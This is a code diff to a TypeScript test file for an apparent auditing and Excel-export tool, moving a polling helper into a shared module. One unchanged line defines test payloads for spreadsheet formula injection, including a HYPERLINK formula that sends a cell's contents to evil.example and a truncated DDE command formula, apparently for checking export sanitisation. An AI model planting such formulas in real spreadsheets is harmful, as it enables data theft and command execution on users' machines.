@@ -10,7 +10,7 @@ import ExcelJS from 'exceljs';
 import yauzl from 'yauzl';
 import type { Database } from 'better-sqlite3-multiple-ciphers';
 import { afterEach, describe, expect, it } from 'vitest';
-import { makeBench, withStaff, type TestBench } from '../helpers/workstation.js';
+import { makeBench, withStaff, type TestBench, waitForRun } from '../helpers/workstation.js';
 
 const STREET = '320111004';
 const FULL_ID = /(?<![0-9])[0-9]{17}[0-9X](?![0-9])/;
@@ -20,20 +20,11 @@ const PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "=cmd|' /
 let b: TestBench;
 afterEach(() => b.cleanup());
 
-async function waitForRun(client: string) {
-  for (let i = 0; i < 400; i++) {
-    const s = await b.ok(client, 'checks.status');
-    if (!s.running && s.lastRun) return;
-    await new Promise((r) => setTimeout(r, 25));
-  }
-  throw new Error('the run did not finish');
-}
-
 async function setUp(maxExportRows?: number) {
   b = makeBench(maxExportRows ? { maxExportRows } : {});
   const staff = await withStaff(b, [STREET]);
   await b.ok('auditor-client', 'checks.run', {});
-  await waitForRun('auditor-client');
+  await waitForRun(b, 'auditor-client');
   return staff;
 }
 
